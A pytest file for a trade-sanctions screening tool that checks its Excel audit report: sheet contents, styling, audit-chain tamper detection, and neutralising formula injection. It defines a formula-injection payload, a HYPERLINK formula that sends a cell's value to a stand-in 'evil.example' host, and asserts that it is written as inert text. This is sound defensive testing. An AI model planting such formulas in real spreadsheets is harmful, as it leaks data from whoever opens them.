"""The Excel audit report, reopened and read as an auditor's Excel would read it."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from screener.core.entries import EntityType, Entry, ParsedList
from screener.core.record import runs
from screener.core.record.database.store import Store
from screener.core.record.review import decisions
from screener.core.report import audit_report as report
from screener.core.report.audit_report import ReportError


@pytest.fixture(autouse=True)
def _on_both_backends(backend: str) -> str:
    """Every test here runs on the embedded SQLite store and on a team PostgreSQL database."""
    return backend


INJECTED = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'


def _store_with_run(home: Path) -> tuple[Store, int, list[int]]:
    store = Store.open(home)
    v = store.add_list_version(
        ParsedList(
            source="ofac_sdn",
            title="OFAC SDN",
            format="test",
            published=None,
            published_basis="unknown",
            files=(Path("sdn.csv"),),
            entries=[Entry(entry_id="1", type=EntityType.ORGANIZATION, name="X")],
        ),
        sha256="a" * 64,
        size=1,
    )
    run_id = runs.start_run(
        store,
        runs.RunInfo(
            file_name="orders.xlsx",
            file_sha256="f" * 64,
            sheet="Orders",
            mapping={"buyer": "Customer", "quantity": "Qty"},
            policy_version="2024.1",
            matcher_version="1",
            list_version_ids=(v.id,),
        ),
    )
    hit = runs.HitRecord(
        role="buyer",
        party_name=INJECTED,
        party_country="AE",
        source="ofac_sdn",
        sub_source="",
        list_version_id=v.id,
        entry_rowid=1,
        entry_id="1",
        entry_name="X",
        entry_hash="h",
        matched_name="X",
        programs=("RUSSIA-EO14024",),
        score=0.91,
        explanation="tokens: x",
    )
    lines = [
        runs.LineRecord(
            row=r,
            cells=(
                ("Customer", INJECTED if r == 3 else f"Cust {r}"),
                ("Qty", "12"),
                ("HS", "0901.21"),
            ),
            order_no="SO-1",
            line_no=str(r),
            parties=(),
            description="d",
            hs_code="0901.21",
            destination="AE",
            transit=(),
            problems=(),
            verdict=v_,
            reasons=(f"reason {r}",),
            findings=(),
            hits=(hit,) if r == 3 else (),
        )
        for r, v_ in ((2, "clear"), (3, "block"), (4, "review"))
    ]
    line_ids = runs.add_lines(store, run_id, lines)
    runs.finish_run(store, run_id, status="completed", lines=3)
    return store, run_id, line_ids


def test_report_sheets_rows_and_key_cells(home: Path, tmp_path: Path) -> None:
    store, run_id, line_ids = _store_with_run(home)
    decisions.record_decision(store, line_id=line_ids[1], action="hold", justification="check")
    decisions.record_decision(
        store, line_id=line_ids[1], action="blocked", justification="confirmed SDN match"
    )
    out = report.write_report(store, run_id, tmp_path / "audit.xlsx")

    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Summary", "Lines", "Hits", "Decisions", "Lists", "Licences"]
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Run id"] == run_id
    assert summary["Verdict: block"] == 1
    assert summary["Decision: Blocked"] == 1
    assert summary["Audit chain verified"] == "passed"
    assert isinstance(summary["Started (UTC)"], datetime)

    lines = wb["Lines"]
    assert lines.max_row == 1 + 3  # header + one row per line, in input order
    header = [c.value for c in lines[1]]
    assert header[:4] == ["Row", "Order", "Line", "Verdict"]
    assert [lines.cell(r, 1).value for r in (2, 3, 4)] == [2, 3, 4]
    blocked = {h: c.value for h, c in zip(header, lines[3], strict=True)}
    assert blocked["Decision"] == "Blocked"
    assert blocked["Justification"] == "confirmed SDN match"
    assert blocked["[Qty]"] == 12  # mapped quantity column: a number
    assert blocked["[HS]"] == "0901.21"  # HS stays text: leading zero kept
    assert lines.cell(3, 4).fill.fgColor.rgb.endswith("F4C7C3")  # block is red
    assert lines.cell(1, 1).font.bold
    assert lines.freeze_panes == "A2"
    assert lines.auto_filter.ref.startswith("A1:")

    assert wb["Hits"].max_row == 2
    hit_row = {c.value: v.value for c, v in zip(wb["Hits"][1], wb["Hits"][2], strict=True)}
    assert hit_row["Name as entered"] == INJECTED
    # What the matcher compared: transliterated, folded, legal forms canonical.
    assert hit_row["Normalised"] == "hyperlink http evil example x and a1 click"
    assert wb["Decisions"].max_row == 3  # both decisions, the superseded one included
    assert [c.value for c in wb["Decisions"][2]][-1] == "yes"  # first one is superseded
    assert wb["Lists"].cell(2, 1).value == "ofac_sdn"


def test_injected_formula_is_inert_text(home: Path, tmp_path: Path) -> None:
    store, run_id, _ = _store_with_run(home)
    out = report.write_report(store, run_id, tmp_path / "audit.xlsx")
    wb = openpyxl.load_workbook(out)
    hits = wb["Hits"]
    cell = hits.cell(2, 3)
    assert cell.value == INJECTED
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.quotePrefix
    lines = wb["Lines"]
    injected = [c for row in lines.iter_rows() for c in row if c.value == INJECTED]
    assert injected
    assert all(c.data_type == "s" for c in injected)
    # Nothing anywhere in the workbook is a formula.
    for ws in wb.worksheets:
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_report_refuses_bad_target_and_leaves_no_partial_file(home: Path, tmp_path: Path) -> None:
    store, run_id, _ = _store_with_run(home)
    with pytest.raises(ReportError, match=r"\.xlsx"):
        report.write_report(store, run_id, tmp_path / "audit.csv")
    with pytest.raises(ReportError, match="does not exist"):
        report.write_report(store, run_id, tmp_path / "missing" / "audit.xlsx")
    assert list(tmp_path.glob("*.part")) == []


def test_control_characters_and_problems_do_not_break_the_report(
    home: Path, tmp_path: Path
) -> None:
    store = Store.open(home)
    run_id = runs.start_run(
        store, runs.RunInfo("o.csv", "f" * 64, "", {}, "2024.1", "1", list_version_ids=())
    )
    line = runs.LineRecord(
        row=2,
        cells=(("Customer", "ACME\x0bTrading\x01"), ("Note", "-1+1"), ("Empty", "")),
        order_no="SO-9",
        line_no="1",
        parties=(),
        description="",
        hs_code="85A2",
        destination="AE",
        transit=(),
        problems=("row 2, 'HS Code': '85A2' is not an HS code",),
        verdict="review",
        reasons=("input problem",),
        findings=(),
    )
    runs.add_lines(store, run_id, [line])
    runs.finish_run(store, run_id, status="completed", lines=1)
    out = report.write_report(store, run_id, tmp_path / "audit.xlsx")

    wb = openpyxl.load_workbook(out)
    header = [c.value for c in wb["Lines"][1]]
    row = dict(zip(header, wb["Lines"][2], strict=False))
    assert row["[Customer]"].value == "ACME\ufffdTrading\ufffd"  # shown, not a corrupt file
    assert row["[Note]"].value == "-1+1"
    assert row["[Note]"].data_type == "s"  # never evaluated as a formula
    assert row["[Empty]"].value is None
    assert "'85A2' is not an HS code" in row["Input problems"].value
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Lines with input problems"] == 1
    assert summary["Verdict: review"] == 1


def test_a_changed_record_makes_the_report_say_the_chain_failed(
    home: Path, tmp_path: Path, backend: str
) -> None:
    store, run_id, line_ids = _store_with_run(home)
    if backend == "sqlite":  # an edit behind Screener's back (the triggers dropped)
        store.db.execute("DROP TRIGGER lines_no_update")
        store.db.execute("UPDATE lines SET verdict = 'cleared' WHERE id = ?", [line_ids[0]])
        store.db.conn.commit()
    else:
        pytest.skip("the server refuses the edit to its owner too (test_team_roles)")
    out = report.write_report(store, run_id, tmp_path / "audit.xlsx")
    summary = {
        r[0]: r[1] for r in openpyxl.load_workbook(out)["Summary"].iter_rows(values_only=True)
    }
    assert summary["Audit chain verified"] == (
        f"FAILED: lines record {line_ids[0]} (chain #{_chain_seq(store, line_ids[0])}):"
        " was changed after it was recorded"
    )


def _chain_seq(store: Store, line_id: int) -> int:
    row = store.db.execute(
        "SELECT seq FROM audit_chain WHERE table_name = 'lines' AND row_id = ?", [line_id]
    ).fetchone()
    return int(row[0])


def test_cells_keep_their_own_style_when_styles_repeat(tmp_path: Path) -> None:
    """Styles are registered once per workbook and reused: each cell still gets its own."""
    from openpyxl import Workbook

    from screener.core.report import workbook

    red, green = report.VERDICT_FILLS["block"], report.VERDICT_FILLS["clear"]
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    for i in range(6):
        ws.append(
            [
                workbook.cell(ws, "block" if i % 2 else "clear", fill=red if i % 2 else green),
                workbook.cell(ws, f"reason {i}", wrap=bool(i % 3)),
                workbook.cell(ws, 0.5 + i, number_format="0.00" if i % 2 else None),
                workbook.cell(ws, "=1+1" if i % 2 else "plain", wrap=i > 2),
                *workbook.texts(ws, ["-5", "", "text"]),
            ]
        )
    workbook.save_workbook(wb, tmp_path / "s.xlsx", what="a test")
    rows = list(openpyxl.load_workbook(tmp_path / "s.xlsx")["S"].iter_rows())
    for i, row in enumerate(rows):
        verdict, reason, score, text, minus, empty, plain = row
        assert verdict.fill.fgColor.rgb.endswith("F4C7C3" if i % 2 else "D9EAD3")
        assert bool(reason.alignment.wrap_text) == bool(i % 3)
        assert score.number_format == ("0.00" if i % 2 else "General")
        assert text.quotePrefix == bool(i % 2)
        assert text.data_type == "s"
        assert bool(text.alignment.wrap_text) == (i > 2)
        assert minus.value == "-5"
        assert minus.quotePrefix
        assert minus.data_type == "s"
        assert plain.value == "text"
        assert not plain.quotePrefix
        assert empty.value is None


def test_texts_clean_a_row_with_characters_excel_cannot_hold(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from screener.core.report import workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append(workbook.texts(ws, ["ok", "bad\x01char", "=SUM(A1)"]))
    workbook.save_workbook(wb, tmp_path / "s.xlsx", what="a test")
    row = next(openpyxl.load_workbook(tmp_path / "s.xlsx")["S"].iter_rows())
    assert [c.value for c in row] == ["ok", "bad\ufffdchar", "=SUM(A1)"]
    assert row[2].data_type == "s"
    assert row[2].quotePrefix
